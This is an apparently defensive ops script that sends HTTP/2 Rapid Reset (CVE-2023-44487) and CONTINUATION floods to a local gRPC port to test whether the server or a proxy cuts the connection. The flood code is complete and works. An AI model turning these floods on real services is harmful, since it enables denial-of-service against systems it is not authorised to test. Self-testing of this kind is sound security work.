#!/usr/bin/env python3
"""Anonymous HTTP/2 floods against a gRPC port, for ops/probe_http2_floods.sh
(docs/security.md, "HTTP/2 floods").

Opens one cleartext HTTP/2 connection to 127.0.0.1:PORT, sends no
credentials, and then, as fast as the socket takes it:
  rapid_reset   COUNT pairs of HEADERS (a gRPC call to PATH) and
                RST_STREAM(CANCEL), 200 pairs per write (CVE-2023-44487);
  continuation  one HEADERS frame without END_HEADERS, then COUNT
                CONTINUATION frames of 14 KB of headers each, never ending
                the block (the CONTINUATION flood of 2024).
Prints one line: what was sent, in how long, and whether the server (or a
front proxy) closed the connection.

    ops/http2_floods.py PORT MODE COUNT [PATH]
"""
import socket
import struct
import sys
import threading
import time


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):  # HPACK literal without indexing, new name, no Huffman
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def main():
    port, mode, count = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    path = sys.argv[4] if len(sys.argv) > 4 else "/lifelong.v1.LearningRecordService/ListStatements"
    if mode not in ("rapid_reset", "continuation"):
        sys.exit("mode: rapid_reset or continuation")
    headers = (literal(":method", "POST") + literal(":scheme", "http") + literal(":path", path) +
               literal(":authority", "records") + literal("content-type", "application/grpc") +
               literal("te", "trailers"))
    sock = socket.create_connection(("127.0.0.1", port))
    closed = threading.Event()

    def drain():
        while True:
            try:
                if not sock.recv(65536):
                    break
            except OSError:
                break
        closed.set()

    start, sent = time.time(), 0
    try:
        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
        threading.Thread(target=drain, daemon=True).start()
        if mode == "rapid_reset":
            batch, stream = [], 1
            while sent < count and not closed.is_set():
                batch.append(frame(1, 4, stream, headers) + frame(3, 0, stream, struct.pack(">I", 8)))
                stream += 2
                if len(batch) == 200 or sent + len(batch) == count:
                    sock.sendall(b"".join(batch))
                    sent += len(batch)
                    batch = []
        else:
            sock.sendall(frame(1, 0, 1, headers))  # no END_HEADERS: the block goes on
            chunk = frame(9, 0, 1, literal("x-pad", "a" * 200) * 70)
            while sent < count and not closed.is_set():
                sock.sendall(chunk)
                sent += 1
    except OSError:
        closed.set()
    seconds = time.time() - start
    time.sleep(0.5)
    what = "HEADERS+RST_STREAM pairs" if mode == "rapid_reset" else "CONTINUATION frames"
    print("sent %d %s in %.2f s (%.0f/s); closed by the server: %s" %
          (sent, what, seconds, sent / max(seconds, 1e-9), "yes" if closed.is_set() else "no"))
    sock.close()


if __name__ == "__main__":
    main()
